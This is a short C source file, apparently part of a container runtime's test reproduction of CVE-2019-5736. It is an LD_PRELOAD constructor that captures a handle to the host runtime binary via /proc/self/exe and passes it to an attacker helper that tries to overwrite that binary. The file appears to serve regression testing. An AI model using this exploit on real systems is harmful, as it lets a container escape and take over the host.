/*
 * The payload of the CVE-2019-5736 reproduction. The container's entrypoint is a
 * script "#!/proc/self/exe": the kernel then runs the runtime's own binary (the
 * init's /proc/self/exe) as the container process, and the container's environment
 * (LD_PRELOAD) gets this code into it. It takes an O_PATH fd of /proc/self/exe (the
 * runtime binary on the host) and hands it to husk-attacker, which tries to reopen
 * it for writing once nothing executes the binary any more.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

extern char** environ;

__attribute__((constructor)) static void husk_attack(void) {
    const char* out = getenv("HUSK_ATTACK_OUT");
    if (!out) return;
    int fd = open("/proc/self/exe", O_PATH); /* no O_CLOEXEC: it must survive execve */
    char num[16];
    snprintf(num, sizeof num, "%d", fd);
    unsetenv("LD_PRELOAD");
    char* argv[] = {"/bin/husk-attacker", "exe-write", num, (char*)out, NULL};
    execve(argv[0], argv, environ);
    _exit(99);
}
